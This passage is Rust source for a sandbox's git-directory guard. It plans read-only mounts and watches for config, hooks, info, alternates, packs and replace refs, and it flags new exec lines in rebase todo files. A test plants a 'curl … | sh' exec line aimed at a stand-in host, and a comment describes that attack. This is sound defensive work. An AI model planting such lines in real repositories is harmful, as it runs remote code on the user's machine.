//! Which parts of a repository's `.git` a workspace-write sandbox may change.
//!
//! `allow_git_writes = false` makes every git directory of the workspace
//! read-only. `"commits"` lets git write objects, refs, the index, logs and
//! HEAD, in linked worktrees too, while everything that can make git run code
//! later stays read-only: `config`, `config.worktree`, `hooks/`, `info/`,
//! the redirecting `commondir` and `gitdir` files, and the same inside
//! `modules/` and `worktrees/`. `true` leaves git alone.

use std::fs;
use std::io;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};

/// How much of `.git` the command may write.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub enum GitWrites {
    /// `.git` is read-only.
    Deny,
    /// Commits, branches and fetches, but no config, hooks or info.
    Commits,
    /// `.git` is as writable as the rest of the workspace.
    Allow,
}

/// Mount and Landlock changes that carry out a [`GitWrites`] choice.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub(crate) struct GitPlan {
    /// Git directories outside the workspace that git must write (linked worktrees).
    pub(crate) writable: Vec<PathBuf>,
    /// Bind-mounted read-only over themselves.
    pub(crate) read_only: Vec<PathBuf>,
    /// Bind-mounted over themselves (still writable) so they cannot be
    /// renamed away or replaced by a look-alike.
    pub(crate) pinned: Vec<PathBuf>,
    /// Guarded entries that do not exist (`commondir`, `gitdir`,
    /// `config.worktree`): no mount can hold them, so they are watched.
    pub(crate) missing: Vec<PathBuf>,
    /// Git directories the command may write: a symlink that appears in
    /// one is quarantined after the run, because host git writes through
    /// symlinks there (`logs/HEAD`, `COMMIT_EDITMSG`, `FETCH_HEAD`).
    pub(crate) scan: Vec<PathBuf>,
    /// The search for repositories nested in the root stopped at its
    /// bound of directories read (see [`nested_repos`]): a repository
    /// further on has no plan.
    pub(crate) search_cut: bool,
    /// Pack files, their indexes and the commit graphs, bound read-only
    /// as they are (a hard link elsewhere is no reason to refuse the run:
    /// they are never written in place by git).
    pub(crate) frozen: Vec<PathBuf>,
}

/// The resolved layout of one repository.
#[derive(Debug)]
struct Repo {
    /// `root/.git`, a directory or a `gitdir:` file.
    dot_git: PathBuf,
    /// The worktree's own git directory.
    git_dir: PathBuf,
    /// Where objects, refs, config and hooks live (equal to `git_dir` unless
    /// this is a linked worktree).
    common_dir: PathBuf,
}

fn resolve_relative(base: &Path, text: &str) -> PathBuf {
    let p = Path::new(text.trim());
    let joined = if p.is_absolute() {
        p.to_path_buf()
    } else {
        base.join(p)
    };
    fs::canonicalize(&joined).unwrap_or_else(|_| lexical(&joined))
}

/// `path` with `.` and `..` taken out by name (for a path that does not
/// exist, which `canonicalize` cannot resolve).
pub(crate) fn lexical(path: &Path) -> PathBuf {
    use std::path::Component;
    let mut out = PathBuf::new();
    for c in path.components() {
        match c {
            Component::ParentDir => {
                out.pop();
            }
            Component::CurDir => {}
            other => out.push(other),
        }
    }
    out
}

fn find_repo(root: &Path) -> io::Result<Option<Repo>> {
    let dot_git = root.join(".git");
    let meta = match fs::symlink_metadata(&dot_git) {
        Ok(m) => m,
        Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(None),
        Err(e) => return Err(e),
    };
    // Git follows a `.git` symlink to a directory; so does the plan.
    let git_dir = if meta.is_dir() || fs::metadata(&dot_git).is_ok_and(|m| m.is_dir()) {
        fs::canonicalize(&dot_git)?
    } else {
        let text = crate::safe_read::read_text(&dot_git, crate::safe_read::SMALL)?;
        let Some(target) = text.lines().find_map(|l| l.strip_prefix("gitdir:")) else {
            return Err(io::Error::other(format!(
                "`{}` is not a gitdir file",
                dot_git.display()
            )));
        };
        resolve_relative(root, target)
    };
    let common_dir =
        match crate::safe_read::read_text(&git_dir.join("commondir"), crate::safe_read::SMALL) {
            Ok(text) => resolve_relative(&git_dir, &text),
            Err(e) if e.kind() == io::ErrorKind::NotFound => git_dir.clone(),
            Err(e) => return Err(e),
        };
    Ok(Some(Repo {
        dot_git,
        git_dir,
        common_dir,
    }))
}

/// Entries of a git directory that can make git run code or redirect it.
const GUARDED: &[&str] = &[
    "config",
    "config.worktree",
    "hooks",
    "info",
    "commondir",
    "gitdir",
    // Other object stores git reads objects from: objects kept there
    // could be changed by any later run, whatever `allow_git_writes`.
    "objects/info/alternates",
];

/// Adds the guarded entries of `dir`, and of every git directory below its
/// `modules/` and `worktrees/`, to `out`. Missing `hooks/` and `info/` are
/// created empty first (as `git init` would) so that they can be pinned
/// read-only; a missing `config.worktree` is created when `config` turns
/// worktree configs on.
fn guard_git_dir(
    dir: &Path,
    out: &mut Vec<PathBuf>,
    missing: &mut Vec<PathBuf>,
    depth: usize,
) -> io::Result<()> {
    if depth > 8 {
        return Ok(());
    }
    if dir.join("objects").is_dir() {
        for sub in ["hooks", "info"] {
            let p = dir.join(sub);
            if fs::symlink_metadata(&p).is_err() {
                fs::create_dir(&p)?;
            }
        }
        let config = crate::safe_read::read_text(&dir.join("config"), crate::safe_read::SMALL)
            .unwrap_or_default();
        if config.to_ascii_lowercase().contains("worktreeconfig") {
            let p = dir.join("config.worktree");
            if fs::symlink_metadata(&p).is_err() {
                fs::write(&p, b"")?;
            }
        }
    }
    for name in GUARDED {
        let p = dir.join(name);
        if fs::symlink_metadata(&p).is_ok() {
            out.push(p);
        } else {
            missing.push(p);
        }
    }
    for nest in ["modules", "worktrees"] {
        let Ok(entries) = fs::read_dir(dir.join(nest)) else {
            continue;
        };
        for entry in entries.flatten() {
            if entry.file_type().is_ok_and(|t| t.is_dir()) {
                guard_git_dir(&entry.path(), out, missing, depth + 1)?;
            }
        }
    }
    Ok(())
}

/// How deep submodules inside submodules are planned.
const MAX_SUBMODULE_DEPTH: usize = 4;

/// The gitlink entries (submodule checkouts) of the index of the
/// repository at `root`, as paths below `root`. The index is first
/// searched for the gitlink mode's bytes, so that a repository without
/// submodules costs one read and no process; then host git lists them
/// (`ls-files --stage`, which runs no hook and no fsmonitor). No git on
/// the host: no host git will enter them either, and none is returned.
fn gitlinks(root: &Path, git_dir: &Path) -> Vec<PathBuf> {
    // Mode 0o160000 as the index stores it: a 32-bit big-endian word.
    const GITLINK_MODE: [u8; 4] = [0, 0, 0xe0, 0];
    let Ok(index) = crate::safe_read::read_regular(&git_dir.join("index"), 1 << 30) else {
        return Vec::new();
    };
    if !index.windows(4).any(|w| w == GITLINK_MODE) {
        return Vec::new();
    }
    let Some(mut git) = crate::host_git::command() else {
        return Vec::new();
    };
    git.args([
        "-c",
        "safe.directory=*",
        "-c",
        "core.fsmonitor=false",
        "ls-files",
        "--stage",
        "-z",
    ])
    .current_dir(root)
    .env("GIT_OPTIONAL_LOCKS", "0")
    .env("HOME", "/nonexistent");
    let Ok(out) = crate::host_git::output(git, &[]) else {
        return Vec::new();
    };
    out.stdout
        .split(|b| *b == 0)
        .filter_map(|rec| {
            let text = std::str::from_utf8(rec).ok()?;
            let (meta, path) = text.split_once('\t')?;
            if !meta.starts_with("160000 ") {
                return None;
            }
            let rel = Path::new(path);
            let plain = rel
                .components()
                .all(|c| matches!(c, std::path::Component::Normal(_)));
            (plain && !path.is_empty()).then(|| root.join(rel))
        })
        .collect()
}

/// Plans the protection of the repository at `root` (if any), and of
/// every submodule checkout it records: host git enters those by itself
/// (`git status` and `git diff` at the top run git inside each one, with
/// that checkout's own config, hooks and fsmonitor), so a submodule's
/// `.git` is guarded like the top's. A submodule that is not checked out
/// has its `.git` watched: one created during the run is quarantined.
///
/// Every other repository that already exists inside `root` (a clone
/// beside the workspace in a writable root, a repository in a subfolder
/// of the workspace) is planned the same way: host git runs its hooks,
/// config and fsmonitor when the user works there. See [`nested_repos`]
/// for how far that search goes.
pub(crate) fn plan(root: &Path, writes: GitWrites) -> io::Result<GitPlan> {
    let mut plan = plan_at_depth(root, writes, 0)?;
    if writes == GitWrites::Allow {
        return Ok(plan);
    }
    let (nested, cut) = nested_repos(root);
    plan.search_cut = cut;
    for repo in nested {
        // A `.git` git cannot read (not a `gitdir:` file) is not a
        // repository git would use; one whose guarded entries cannot be
        // made is held read-only whole instead.
        let inner = plan_at_depth(&repo, writes, 1)
            .or_else(|_| plan_one(&repo, GitWrites::Deny))
            .unwrap_or_default();
        merge(&mut plan, inner);
    }
    Ok(plan)
}

/// Adds what `inner` plans to `plan`, without duplicates.
fn merge(plan: &mut GitPlan, inner: GitPlan) {
    for (from, to) in [
        (inner.writable, &mut plan.writable),
        (inner.read_only, &mut plan.read_only),
        (inner.pinned, &mut plan.pinned),
        (inner.missing, &mut plan.missing),
        (inner.scan, &mut plan.scan),
        (inner.frozen, &mut plan.frozen),
    ] {
        for p in from {
            if !to.contains(&p) {
                to.push(p);
            }
        }
    }
}

/// How many directory levels below a root are searched for repositories.
const NESTED_DEPTH: usize = 3;
/// How many directories are read at most in that search, per root.
const NESTED_DIRS: usize = 4096;
/// Directories not searched: build output and package caches, large and
/// never a repository anyone commits in.
const NESTED_SKIP: &[&str] = &["node_modules", "target", ".venv", ".cache", ".git"];

/// The directories below `root` (not `root` itself), up to
/// [`NESTED_DEPTH`] levels and [`NESTED_DIRS`] directories read, that
/// hold a `.git` (a directory or a `gitdir:` file), and whether the search
/// stopped at [`NESTED_DIRS`] with directories left unread. Symlinks are
/// not followed, and the search does not go into a repository it found
/// (its submodules are planned from its index).
fn nested_repos(root: &Path) -> (Vec<PathBuf>, bool) {
    let mut found = Vec::new();
    let cut = walk_bounded(root, NESTED_DEPTH, |entry, _, walkable| {
        if !walkable {
            return false;
        }
        let path = entry.path();
        if fs::symlink_metadata(path.join(".git")).is_ok() {
            found.push(path);
            false
        } else {
            true
        }
    });
    (found, cut)
}

/// Reads the directories below `root` breadth-first, `levels` deep and at
/// most [`NESTED_DIRS`] of them, and calls `visit(entry, depth, walkable)`
/// for each entry of each directory read (`depth` 0 for `root`'s own;
/// `walkable`: a real directory, not a symlink, not in [`NESTED_SKIP`]).
/// `visit` says whether to go into a walkable entry. Returns whether the
/// walk stopped at the bound with directories left unread.
fn walk_bounded(
    root: &Path,
    levels: usize,
    mut visit: impl FnMut(&fs::DirEntry, usize, bool) -> bool,
) -> bool {
    let mut level = vec![root.to_path_buf()];
    let mut read = 0;
    for depth in 0..levels {
        let mut next = Vec::new();
        for dir in level {
            if read >= NESTED_DIRS {
                return true;
            }
            read += 1;
            let Ok(entries) = fs::read_dir(&dir) else {
                continue;
            };
            for e in entries.flatten() {
                let walkable = e.file_type().is_ok_and(|t| t.is_dir())
                    && !NESTED_SKIP.iter().any(|s| e.file_name() == *s);
                if visit(&e, depth, walkable) && walkable {
                    next.push(e.path());
                }
            }
        }
        level = next;
    }
    false
}

fn plan_at_depth(root: &Path, writes: GitWrites, depth: usize) -> io::Result<GitPlan> {
    let mut plan = plan_one(root, writes)?;
    if writes == GitWrites::Allow || depth >= MAX_SUBMODULE_DEPTH {
        return Ok(plan);
    }
    let Some(repo) = find_repo(root)? else {
        return Ok(plan);
    };
    for sub in gitlinks(root, &repo.git_dir) {
        let dot_git = sub.join(".git");
        let real_dir = fs::symlink_metadata(&sub).is_ok_and(|m| m.is_dir());
        if !real_dir || fs::symlink_metadata(&dot_git).is_err() {
            plan.missing.push(dot_git);
            continue;
        }
        merge(&mut plan, plan_at_depth(&sub, writes, depth + 1)?);
    }
    Ok(plan)
}

/// The `.git` of every submodule checkout the repository at `root`
/// records now that is not in `planned` (the ones guarded when the run
/// started). In `"commits"` mode the index is writable, so a command can
/// record a new gitlink to a repository it made, whose config host git
/// would then honour from the top; the supervisor must quarantine these
/// after the run like a created protected path.
pub(crate) fn new_gitlink_checkouts(root: &Path, planned: &[PathBuf]) -> Vec<PathBuf> {
    let Ok(Some(repo)) = find_repo(root) else {
        return Vec::new();
    };
    gitlinks(root, &repo.git_dir)
        .into_iter()
        .map(|sub| sub.join(".git"))
        .filter(|g| fs::symlink_metadata(g).is_ok() && !planned.contains(g))
        .collect()
}

/// A loose object file of a git directory, with its identity (inode,
/// size, modification time in nanoseconds) when listed.
pub(crate) type ObjectStamp = (PathBuf, (u64, u64, i128));

/// At most how many loose objects [`loose_objects`] lists.
const LOOSE_OBJECTS: usize = 200_000;

/// The loose objects of the git directory `common_dir`
/// (`objects/xx/yyyy…`), none followed through a symlink.
pub(crate) fn loose_objects(common_dir: &Path) -> Vec<ObjectStamp> {
    let mut out = Vec::new();
    let Ok(fans) = fs::read_dir(common_dir.join("objects")) else {
        return out;
    };
    for fan in fans.flatten() {
        let name = fan.file_name();
        let is_fan = name.len() == 2 && name.as_bytes().iter().all(u8::is_ascii_hexdigit);
        if !is_fan || !fan.file_type().is_ok_and(|t| t.is_dir()) {
            continue;
        }
        let Ok(files) = fs::read_dir(fan.path()) else {
            continue;
        };
        for f in files.flatten() {
            if out.len() >= LOOSE_OBJECTS {
                return out;
            }
            if let Some(stamp) = object_stamp(&f.path()) {
                out.push((f.path(), stamp));
            }
        }
    }
    out
}

fn object_stamp(path: &Path) -> Option<(u64, u64, i128)> {
    use std::os::unix::fs::MetadataExt;
    let m = fs::symlink_metadata(path).ok()?;
    m.is_file().then(|| {
        (
            m.ino(),
            m.size(),
            i128::from(m.mtime()) * 1_000_000_000 + i128::from(m.mtime_nsec()),
        )
    })
}

/// The loose objects of `before` (listed before the run) that are still
/// there but changed, and whose content no longer hashes to their name.
/// Git writes an object once and only touches its time afterwards, so a
/// changed one is re-read; one host git cannot read or that hashes to
/// another name is returned. Host git reads the objects (`cat-file
/// --batch`, replace refs off); without a git the command could not have
/// written (see `host_git.rs`), every changed one is returned.
pub(crate) fn rewritten_objects(common_dir: &Path, before: &[ObjectStamp]) -> Vec<PathBuf> {
    let changed: Vec<(&PathBuf, String)> = before
        .iter()
        .filter(|(p, stamp)| object_stamp(p).is_some_and(|now| now != *stamp))
        .filter_map(|(p, _)| {
            let fan = p.parent()?.file_name()?.to_str()?;
            let rest = p.file_name()?.to_str()?;
            Some((p, format!("{fan}{rest}")))
        })
        .collect();
    if changed.is_empty() {
        return Vec::new();
    }
    // No git the command could not have written: every changed object is
    // taken as rewritten (fails closed).
    let Some(mut git) = crate::host_git::command() else {
        return changed.into_iter().map(|(p, _)| p.clone()).collect();
    };
    git.args(["-c", "safe.directory=*", "cat-file", "--batch"])
        .env("GIT_DIR", common_dir)
        .env("GIT_NO_REPLACE_OBJECTS", "1")
        .env("HOME", "/nonexistent");
    let mut names = String::new();
    for (_, oid) in &changed {
        names.push_str(oid);
        names.push('\n');
    }
    // Git could not read them in time: every one counts as rewritten.
    let Ok(done) = crate::host_git::output(git, names.as_bytes()) else {
        return changed.into_iter().map(|(p, _)| p.clone()).collect();
    };
    let out = done.stdout;
    let mut bad = Vec::new();
    let mut rest = out.as_slice();
    for (path, oid) in changed {
        match next_object(&mut rest) {
            Some((name, kind, body)) if name == oid && hashes_to(&oid, kind, body) => {}
            _ => bad.push(path.clone()),
        }
    }
    bad
}

/// The next `<oid> <type> <size>\n<content>\n` record of `cat-file
/// --batch` output, or `None` (a `missing` line, the end, a short read).
fn next_object<'a>(rest: &mut &'a [u8]) -> Option<(String, &'a str, &'a [u8])> {
    let nl = rest.iter().position(|b| *b == b'\n')?;
    let header = std::str::from_utf8(rest.get(..nl)?).ok()?;
    let mut words = header.split(' ');
    let (name, kind, size) = (words.next()?, words.next()?, words.next());
    let Some(size) = size.and_then(|s| s.parse::<usize>().ok()) else {
        *rest = rest.get(nl + 1..).unwrap_or_default();
        return Some((name.to_owned(), "missing", &[]));
    };
    let body = rest.get(nl + 1..nl + 1 + size)?;
    *rest = rest.get(nl + 2 + size..).unwrap_or_default();
    Some((name.to_owned(), kind, body))
}

/// Whether `<kind> <len>\0<body>` hashes to `oid` (SHA-1, or SHA-256 for a
/// 64-digit name).
fn hashes_to(oid: &str, kind: &str, body: &[u8]) -> bool {
    use sha1::Digest as _;
    if kind == "missing" {
        return false;
    }
    let header = format!("{kind} {}\0", body.len());
    let hex = |bytes: &[u8]| {
        use std::fmt::Write as _;
        bytes.iter().fold(String::new(), |mut out, b| {
            let _ = write!(out, "{b:02x}");
            out
        })
    };
    let got = if oid.len() == 64 {
        let mut h = sha2::Sha256::new();
        h.update(header.as_bytes());
        h.update(body);
        hex(&h.finalize())
    } else {
        let mut h = sha1::Sha1::new();
        h.update(header.as_bytes());
        h.update(body);
        hex(&h.finalize())
    };
    got == oid
}

/// The replace refs of the git directory `common_dir` (`refs/replace/*`,
/// loose or in `packed-refs`), each as `name object`. Host git shows the
/// replacement object wherever the replaced one is read, so a replace ref
/// made in `"commits"` mode shows the user a harmless file for a commit
/// that holds another; the supervisor must compare this list before and
/// after the run and refuse (quarantine) any new entry.
pub(crate) fn replace_refs(common_dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![common_dir.join("refs/replace")];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = fs::read_dir(&dir) else {
            continue;
        };
        for e in entries.flatten() {
            let path = e.path();
            if e.file_type().is_ok_and(|t| t.is_dir()) {
                stack.push(path);
            } else if let Ok(rel) = path.strip_prefix(common_dir) {
                let target =
                    crate::safe_read::read_text(&path, crate::safe_read::SMALL).unwrap_or_default();
                out.push(format!("{} {}", rel.display(), target.trim()));
            }
        }
    }
    let packed =
        crate::safe_read::read_text(&common_dir.join("packed-refs"), 1 << 30).unwrap_or_default();
    for line in packed.lines() {
        if let Some((object, name)) = line.split_once(' ') {
            if name.starts_with("refs/replace/") {
                out.push(format!("{name} {object}"));
            }
        }
    }
    out.sort();
    out
}

/// Plans the protection of the one repository at `root` (if any).
fn plan_one(root: &Path, writes: GitWrites) -> io::Result<GitPlan> {
    let Some(repo) = find_repo(root)? else {
        return Ok(GitPlan::default());
    };
    let mut plan = GitPlan::default();
    let outside = |p: &Path| !p.starts_with(root);
    match writes {
        GitWrites::Allow => {
            for dir in [&repo.git_dir, &repo.common_dir] {
                if outside(dir) && !plan.writable.contains(dir) {
                    plan.writable.push(dir.clone());
                }
            }
        }
        GitWrites::Deny => {
            for p in [&repo.dot_git, &repo.git_dir, &repo.common_dir] {
                if !plan.read_only.contains(p) {
                    plan.read_only.push(p.clone());
                }
            }
        }
        GitWrites::Commits => {
            for dir in [&repo.git_dir, &repo.common_dir] {
                if outside(dir) && !plan.writable.contains(dir) {
                    plan.writable.push(dir.clone());
                }
            }
            if repo.dot_git.is_dir() {
                plan.pinned.push(repo.dot_git.clone());
            } else {
                plan.read_only.push(repo.dot_git.clone());
            }
            let mut guarded = Vec::new();
            let mut missing = Vec::new();
            guard_git_dir(&repo.common_dir, &mut guarded, &mut missing, 0)?;
            if repo.git_dir != repo.common_dir {
                guard_git_dir(&repo.git_dir, &mut guarded, &mut missing, 0)?;
            }
            plan.missing = missing;
            for dir in [&repo.git_dir, &repo.common_dir] {
                if !plan.scan.contains(dir) {
                    plan.scan.push(dir.clone());
                }
            }
            // Git reads a pack's objects without checking them against
            // their names, and trusts the commit graph for a commit's tree:
            // one rewritten in place would show and check out content the
            // command chose for commits the user reviewed. They are held
            // read-only (git writes new packs and graphs under new names;
            // refreshing an old pack's time fails, and git then writes the
            // object loose), and the directories holding them pinned.
            let objects = repo.common_dir.join("objects");
            for dir in [objects.clone(), objects.join("pack"), objects.join("info")] {
                if fs::symlink_metadata(&dir).is_ok_and(|m| m.is_dir())
                    && !plan.pinned.contains(&dir)
                {
                    plan.pinned.push(dir);
                }
            }
            plan.frozen.extend(frozen_object_files(&objects));
            for p in guarded {
                if !plan.read_only.contains(&p) {
                    plan.read_only.push(p);
                }
            }
        }
    }
    // What the repository's own (read-only) config and hooks point git at:
    // a `core.hooksPath` folder, `include.path` files, the files symlinked
    // hooks name. Their names are the user's choice (`githooks/`,
    // `../.gitconfig`, `scripts/pre-commit`), not on any list, and the
    // command could otherwise rewrite them in the worktree.
    if writes != GitWrites::Allow {
        for target in config_targets(root, &repo)
            .into_iter()
            .chain(hook_link_targets(&repo))
        {
            let exists = fs::symlink_metadata(&target).is_ok();
            let list = if exists {
                &mut plan.read_only
            } else {
                &mut plan.missing
            };
            if !list.contains(&target) {
                list.push(target);
            }
        }
    }
    Ok(plan)
}

/// The files the hooks of the repository's git directories point at when
/// they are symlinks (`ln -s ../../scripts/pre-commit .git/hooks/`): git
/// runs the target, an ordinary file of the tree.
fn hook_link_targets(repo: &Repo) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for dir in [&repo.common_dir, &repo.git_dir] {
        let Ok(entries) = fs::read_dir(dir.join("hooks")) else {
            continue;
        };
        for e in entries.flatten() {
            if !e.file_type().is_ok_and(|t| t.is_symlink()) {
                continue;
            }
            if let Ok(target) = fs::canonicalize(e.path()) {
                if !out.contains(&target) {
                    out.push(target);
                }
            }
        }
    }
    out
}

/// The `core.hooksPath` folder and the `include.path` /
/// `includeIf.*.path` files named by the repository's `config` and
/// `config.worktree`, resolved as git resolves them (a relative hooks path
/// against the worktree, a relative include against the config's folder,
/// `~/` against `$HOME`), read by the host's git (see `host_git.rs`).
fn config_targets(root: &Path, repo: &Repo) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for file in [
        repo.common_dir.join("config"),
        repo.git_dir.join("config.worktree"),
    ] {
        if fs::symlink_metadata(&file).is_err() {
            continue;
        }
        let Some(mut git) = crate::host_git::command() else {
            continue;
        };
        git.args(["config", "--no-includes", "--null", "--list", "--file"])
            .arg(&file)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_CEILING_DIRECTORIES", "/");
        let Ok(done) = crate::host_git::output(git, &[]) else {
            continue;
        };
        let base = file.parent().unwrap_or(root);
        for entry in done.stdout.split(|b| *b == 0) {
            let text = String::from_utf8_lossy(entry);
            let Some((key, value)) = text.split_once('\n') else {
                continue;
            };
            let key = key.to_ascii_lowercase();
            let against = if key == "core.hookspath" {
                root
            } else if key == "include.path"
                || (key.starts_with("includeif.")
                    && key.rsplit_once('.').is_some_and(|(_, name)| name == "path"))
            {
                base
            } else {
                continue;
            };
            let value = value.trim();
            let path = match value.strip_prefix("~/") {
                Some(rest) => match std::env::var_os("HOME") {
                    Some(home) => PathBuf::from(home).join(rest),
                    None => continue,
                },
                None => resolve_relative(against, value),
            };
            if !out.contains(&path) {
                out.push(path);
            }
        }
    }
    out
}

/// At most how many pack and graph files are held read-only.
const FROZEN_FILES: usize = 1024;

/// The pack files (`.pack`, `.idx`, `.rev`, `.bitmap`, `.mtimes`,
/// `multi-pack-index`) and commit graphs below `objects`.
fn frozen_object_files(objects: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let graph = objects.join("info/commit-graph");
    if fs::symlink_metadata(&graph).is_ok_and(|m| m.is_file()) {
        out.push(graph);
    }
    for dir in [objects.join("pack"), objects.join("info/commit-graphs")] {
        let Ok(entries) = fs::read_dir(&dir) else {
            continue;
        };
        for e in entries.flatten() {
            if out.len() >= FROZEN_FILES {
                return out;
            }
            if e.file_type().is_ok_and(|t| t.is_file()) {
                out.push(e.path());
            }
        }
    }
    out
}

/// The states git resumes with `--continue` (`git rebase`, `git
/// cherry-pick`, `git revert`), and the files in each that choose what git
/// runs then.
const RESUMABLE: &[(&str, &[&str])] = &[
    (
        "rebase-merge",
        &["git-rebase-todo", "strategy", "strategy_opts"],
    ),
    ("sequencer", &["todo", "opts"]),
];

/// What in the resumable states of `git_dir` would make git run a program
/// at the next `--continue`: each todo list's `exec` lines and each merge
/// strategy choice, as (state directory, the line).
///
/// In `"commits"` mode the command may write a git directory, so it could
/// leave `exec curl … | sh` in `rebase-merge/git-rebase-todo` (or a
/// strategy naming a `git-merge-*` program it planted on `PATH`) for the
/// user to run with `git rebase --continue` on the host.
///
/// The git directories of the other linked worktrees (`worktrees/<name>/`)
/// and of submodules (`modules/<name>/`, nested too) are looked at as
/// well: the command can write them like the rest, and the user continues
/// a rebase stopped there from that worktree or submodule.
pub(crate) fn resumable_programs(git_dir: &Path) -> Vec<(PathBuf, String)> {
    let mut out = Vec::new();
    for dir in state_holders(git_dir) {
        resumable_in(&dir, &mut out);
    }
    out
}

/// At most how many git directories [`state_holders`] returns, and how
/// deep it looks below `worktrees/` and `modules/`.
const STATE_HOLDERS: usize = 1024;
const STATE_DEPTH: usize = 8;

/// `git_dir` and every git directory below its `worktrees/` and
/// `modules/` (a module's name may hold `/`), symlinks not followed.
fn state_holders(git_dir: &Path) -> Vec<PathBuf> {
    let mut out = vec![git_dir.to_path_buf()];
    let mut stack: Vec<(PathBuf, usize)> = ["worktrees", "modules"]
        .iter()
        .map(|n| (git_dir.join(n), 0))
        .collect();
    while let Some((dir, depth)) = stack.pop() {
        if depth > STATE_DEPTH || out.len() >= STATE_HOLDERS {
            continue;
        }
        let Ok(entries) = fs::read_dir(&dir) else {
            continue;
        };
        for e in entries.flatten() {
            if !e.file_type().is_ok_and(|t| t.is_dir()) {
                continue;
            }
            let path = e.path();
            if fs::symlink_metadata(path.join("HEAD")).is_ok() {
                stack.push((path.join("worktrees"), depth + 1));
                stack.push((path.join("modules"), depth + 1));
                out.push(path);
            } else {
                stack.push((path, depth + 1));
            }
        }
    }
    out
}

/// Adds what the resumable states of the one git directory `git_dir`
/// would run to `out`.
pub(crate) fn resumable_in(git_dir: &Path, out: &mut Vec<(PathBuf, String)>) {
    for (state, files) in RESUMABLE {
        let dir = git_dir.join(state);
        for file in *files {
            let Ok(text) = crate::safe_read::read_regular(&dir.join(file), crate::safe_read::SMALL)
            else {
                continue;
            };
            let text = String::from_utf8_lossy(&text);
            let is_todo = file.ends_with("todo");
            for line in text.lines() {
                let line = line.trim();
                let first = line
                    .split(|c: char| c.is_ascii_whitespace())
                    .next()
                    .unwrap_or_default()
                    .to_ascii_lowercase();
                let runs = if is_todo {
                    first == "exec" || first == "x"
                } else {
                    // `strategy`, `strategy_opts`: any content; `opts`: the
                    // strategy keys of its config-format text.
                    !line.is_empty()
                        && (*file != "opts" || line.to_ascii_lowercase().contains("strategy"))
                };
                if runs {
                    out.push((dir.clone(), format!("{file}: {line}")));
                }
            }
        }
    }
}

/// The resumable states below `dirs` that gained a program to run since
/// `before` was taken, with the first new line as the reason.
pub(crate) fn new_resumable_programs(
    dirs: &[PathBuf],
    before: &[(PathBuf, String)],
) -> Vec<(PathBuf, String)> {
    let mut out: Vec<(PathBuf, String)> = Vec::new();
    for dir in dirs {
        for item in resumable_programs(dir) {
            if !before.contains(&item) && !out.iter().any(|(d, _)| *d == item.0) {
                out.push(item);
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn repo(dir: &Path) {
        for d in ["objects", "refs", "hooks"] {
            fs::create_dir_all(dir.join(".git").join(d)).unwrap();
        }
        fs::write(dir.join(".git/config"), "[core]\n").unwrap();
        fs::write(dir.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    }

    #[test]
    fn new_exec_lines_in_a_rebase_todo_are_found() {
        let t = tempfile::tempdir().unwrap();
        let g = t.path().join(".git");
        fs::create_dir_all(g.join("rebase-merge")).unwrap();
        fs::create_dir_all(g.join("sequencer")).unwrap();
        let todo = g.join("rebase-merge/git-rebase-todo");
        fs::write(
            &todo,
            "pick 1234 one\nexec cargo test\n# exec in a comment\n",
        )
        .unwrap();
        fs::write(
            g.join("sequencer/opts"),
            "[options]\n\tsigned-off-by = true\n",
        )
        .unwrap();
        let before = resumable_programs(&g);
        assert_eq!(
            before,
            vec![(
                g.join("rebase-merge"),
                "git-rebase-todo: exec cargo test".into()
            )]
        );
        // Nothing new: the user's own exec line stays.
        assert!(new_resumable_programs(std::slice::from_ref(&g), &before).is_empty());
        fs::write(
            &todo,
            "pick 1234 one\nexec cargo test\n  x curl -s x.example | sh\n",
        )
        .unwrap();
        fs::write(g.join("sequencer/opts"), "[options]\n\tstrategy = evil\n").unwrap();
        let new = new_resumable_programs(std::slice::from_ref(&g), &before);
        assert_eq!(
            new,
            vec![
                (
                    g.join("rebase-merge"),
                    "git-rebase-todo: x curl -s x.example | sh".into()
                ),
                (g.join("sequencer"), "opts: strategy = evil".into()),
            ]
        );
    }

    #[test]
    fn no_repository_means_no_plan() {
        let t = tempfile::tempdir().unwrap();
        assert_eq!(plan(t.path(), GitWrites::Deny).unwrap(), GitPlan::default());
    }

    #[test]
    fn deny_makes_dot_git_read_only() {
        let t = tempfile::tempdir().unwrap();
        let root = fs::canonicalize(t.path()).unwrap();
        repo(&root);
        let p = plan(&root, GitWrites::Deny).unwrap();
        assert_eq!(p.read_only, vec![root.join(".git")]);
        assert!(p.writable.is_empty());
    }

    #[test]
    fn commits_guards_config_hooks_info_and_creates_missing_ones() {
        let t = tempfile::tempdir().unwrap();
        let root = fs::canonicalize(t.path()).unwrap();
        repo(&root);
        fs::create_dir_all(root.join(".git/modules/sub/objects")).unwrap();
        fs::write(root.join(".git/modules/sub/config"), "").unwrap();
        let p = plan(&root, GitWrites::Commits).unwrap();
        // `.git/objects` is pinned so that its packs cannot be swapped.
        assert_eq!(p.pinned, vec![root.join(".git"), root.join(".git/objects")]);
        let g = root.join(".git");
        assert_eq!(
            p.read_only,
            vec![
                g.join("config"),
                g.join("hooks"),
                g.join("info"),
                g.join("modules/sub/config"),
                g.join("modules/sub/hooks"),
                g.join("modules/sub/info"),
            ]
        );
        assert!(g.join("info").is_dir());
        // Missing redirections are watched, since no mount can hold them.
        assert_eq!(
            p.missing,
            vec![
                g.join("config.worktree"),
                g.join("commondir"),
                g.join("gitdir"),
                g.join("objects/info/alternates"),
                g.join("modules/sub/config.worktree"),
                g.join("modules/sub/commondir"),
                g.join("modules/sub/gitdir"),
                g.join("modules/sub/objects/info/alternates"),
            ]
        );
    }

    #[test]
    fn linked_worktree_resolves_gitdir_and_commondir() {
        let t = tempfile::tempdir().unwrap();
        let base = fs::canonicalize(t.path()).unwrap();
        let main = base.join("main");
        repo(&main);
        let wt_git = main.join(".git/worktrees/wt");
        fs::create_dir_all(&wt_git).unwrap();
